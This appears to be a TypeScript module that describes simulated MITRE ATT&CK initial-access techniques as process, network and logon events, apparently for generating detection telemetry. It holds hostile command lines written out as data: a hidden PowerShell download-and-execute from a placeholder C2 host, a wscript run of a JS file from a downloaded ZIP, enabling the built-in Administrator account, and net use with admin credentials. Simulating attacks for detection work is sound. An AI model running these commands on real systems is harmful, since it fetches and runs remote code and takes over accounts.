import { t, v } from "../dsl";

const OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
/** Initial access: the first process a defender sees after the lure, exploit or login. (continued) */
export const initialAccessB = [
  t("T1566.002", "Spearphishing link", "A link in a mail downloads a ZIP/JS that the user opens.", [
    v(
      "link-zip-js",
      [
        { cmd: `"${OUTLOOK}" `, as: "ol", parent: "@explorer" },
        { by: "@msedge", files: ["{{downloads}}\\Document_{{n}}.zip"], net: [["{{c2}}", 443]] },
        {
          cmd: 'wscript.exe "{{tmp}}\\Temp1_Document_{{n}}.zip\\Document_{{n}}.js"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    v(
      "link-msi",
      [
        { by: "@msedge", files: ["{{downloads}}\\Teams_Setup_{{n}}.msi"], net: [["{{c2}}", 443]] },
        {
          cmd: 'C:\\Windows\\System32\\msiexec.exe /i "{{downloads}}\\Teams_Setup_{{n}}.msi"',
          parent: "@explorer",
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1566.003",
    "Spearphishing via service",
    "A payload sent through Teams/LinkedIn chat, opened from Downloads.",
    [
      v(
        "teams-file",
        [
          { by: "@msedge", files: ["{{downloads}}\\{{name}}.pdf.lnk"], net: [["{{c2}}", 443]] },
          {
            cmd: 'C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -c "iwr http://{{c2}}/s -UseBasicParsing | iex"',
            parent: "@explorer",
            as: "c",
          },
          {
            cmd: 'powershell  -w hidden -c "iwr http://{{c2}}/s -UseBasicParsing | iex"',
            parent: "c",
            net: [["{{c2}}", 80]],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1566.004", "Spearphishing voice", "A call talks the user into running a remote-support tool.", [
    v(
      "quick-assist",
      [
        {
          cmd: "C:\\Windows\\System32\\quickassist.exe",
          parent: "@explorer",
          net: [["remoteassistance.support.services.microsoft.com", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1659", "Content injection", "Injected content in a legitimate download leads to a payload run.", [
    v(
      "injected-download",
      [
        { by: "@msedge", files: ["{{downloads}}\\{{name}}Setup.exe"], net: [["{{c2}}", 80]] },
        { cmd: "{{downloads}}\\{{name}}Setup.exe", parent: "@explorer" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1669", "Wi-Fi networks", "Joining a rogue or cracked Wi-Fi network.", [
    v("netsh-add-profile", [
      "netsh wlan add profile filename={{tmp}}\\{{rand}}.xml",
      "netsh wlan connect name={{rand}}",
    ]),
  ]),
  // Valid accounts: these rows follow the ones above and precede initial-access.ts in the library order.
  t("T1078", "Valid accounts", "A stolen domain account logging on remotely.", [
    v(
      "rdp-logon",
      [
        {
          cmd: "mstsc.exe /v:{{srv}}",
          net: [["@server", 3389]],
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "va",
              user: "@user",
              logonType: 10,
              source: "@workstation",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1078.001", "Default accounts", "The built-in Administrator or Guest enabled and used.", [
    v(
      "enable-administrator",
      [
        {
          cmd: "net user administrator /active:yes",
          then: [{ id: "e", kind: "account.enable", user: "@admin" }],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1078.002",
    "Domain accounts",
    "Domain credentials used over the network (type 3 logons, explicit credentials).",
    [
      v("net-use", [
        {
          cmd: "net use \\\\{{srv}}\\C$ /user:{{domain}}\\{{admin}} ********",
          net: [["@server", 445]],
          then: [
            {
              id: "e",
              kind: "credentials.explicit",
              targetUser: "@admin",
              targetServer: "@server",
              targetInfo: "{{srv}}",
            },
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "da",
              user: "@admin",
              logonType: 3,
              source: "@workstation",
            },
          ],
        },
      ]),
      v("runas", [
        {
          cmd: "runas /user:{{domain}}\\{{admin}} cmd",
          then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
        },
        // Secondary Logon (seclogon) starts the shell under the admin's logon, as in T1134.002 runas.
        { cmd: "cmd", parent: "@svchost:netsvcs", user: "@admin", keep: true },
      ]),
    ],
  ),
  t("T1078.003", "Local accounts", "A local account used with runas or a network logon.", [
    v("runas-local", [
      {
        cmd: "runas /user:{{me}}\\administrator cmd.exe",
        then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
      },
    ]),
  ]),
];
